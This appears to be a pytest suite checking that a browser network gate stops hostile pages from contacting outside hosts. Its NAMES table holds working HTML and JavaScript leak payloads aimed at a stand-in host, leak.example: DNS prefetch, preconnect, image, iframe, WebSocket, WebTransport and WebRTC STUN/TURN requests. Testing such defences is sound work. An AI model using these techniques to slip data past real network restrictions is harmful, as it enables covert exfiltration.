"""What pages do to reach what they may not, in a real browser: each way works without the gate, none with it."""

import json
from pathlib import Path

import pytest

from environments.browser.gate.gate import Gate
from tests.adversary.hostile_site import ALL_AT_ONCE, serving, visit
from tests.adversary.pages import HEADERS, NAVIGATIONS, SUBRESOURCES
from tests.collection.faults.gates import policy_of_own

REST_S = 4.0


@pytest.mark.slow
def test_no_subresource_gets_round_the_gate(tmp_path: Path) -> None:
    with serving(SUBRESOURCES) as (site, traps):
        for _ in range(3):  # on a busy machine the page may go before the last attack began
            if traps.reached != set(SUBRESOURCES):
                visit(site, [ALL_AT_ONCE], tmp_path, rest_s=REST_S)
        assert traps.reached == set(SUBRESOURCES)
        traps.reached.clear()
        with Gate(policy_of_own(site.url)) as gate:
            visit(site, [ALL_AT_ONCE], tmp_path, gate.flags(), rest_s=REST_S)
        assert traps.reached == set()


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_navigation_gets_round_the_gate(tmp_path: Path) -> None:
    names = [*HEADERS, *NAVIGATIONS]
    with serving(names) as (site, traps):
        for _ in range(3):
            if left := [name for name in names if name not in traps.reached]:
                visit(site, left, tmp_path, rest_s=0.5)
        assert traps.reached == set(names)
        traps.reached.clear()
        with Gate(policy_of_own(site.url)) as gate:
            visit(site, names, tmp_path, gate.flags(), rest_s=0.5)
        assert traps.reached == set()


NAMES = {
    "prefetched": "<link rel=dns-prefetch href='http://{host}'>",
    "connected": "<link rel=preconnect href='http://{host}'>",
    "shown": "<img src='http://{host}/'>",
    "framed": "<iframe src='https://{host}/'></iframe>",
    "socket": "<script>new WebSocket('ws://{host}/')</script>",
    "transport": "<script>new WebTransport('https://{host}/').ready.catch(() => 0)</script>",
    "turn": """<script>{{ const p = new RTCPeerConnection({{iceServers: [
        {{urls: ['stun:{host}:3478', 'turn:{host}:3478?transport=tcp'], username: 'u', credential: 'c'}}]}});
        p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }}</script>""",
}


def names_asked(net_log: Path) -> set[str]:
    """The hosts of ours that a browser had a name server asked for, by its own log."""
    text = net_log.read_text()
    try:
        log = json.loads(text)
    except ValueError:  # it ended before it closed the list
        log = json.loads(text.rstrip().rstrip(",") + "]}")
    kinds = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    jobs = [event["params"] for event in log["events"] if kinds[event["type"]] == "HOST_RESOLVER_MANAGER_JOB"]
    return {name for name in NAMES if any(f"{name}.leak.example" in str(job.get("host")) for job in jobs)}


@pytest.mark.slow
def test_no_secret_leaves_in_the_question_for_a_name(tmp_path: Path) -> None:
    """A name server of the attacker's learns each name that is asked for: the browser asks for none."""
    with serving(()) as (site, _), Gate(policy_of_own(site.url)) as gate:
        site.extra = "".join(html.format(host=f"{name}.leak.example") for name, html in NAMES.items())
        asked = []
        for number, flags in enumerate(((), gate.flags())):
            log = tmp_path / f"{number}.json"
            visit(site, ["names"], tmp_path, (*flags, f"--log-net-log={log}"), rest_s=REST_S)
            asked.append(names_asked(log))
    assert asked[0] >= {"shown", "framed", "socket", "transport", "turn"}
    assert asked[1] == set()
